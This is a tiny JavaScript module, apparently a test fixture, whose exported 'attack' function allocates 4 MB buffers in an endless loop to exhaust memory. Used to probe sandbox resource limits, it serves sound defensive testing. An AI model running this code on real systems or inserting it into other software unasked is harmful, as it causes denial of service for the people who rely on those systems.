export default function attack() {
  const all = [];
  for (;;) all.push(new Uint8Array(4 * 1024 * 1024).fill(1));
}
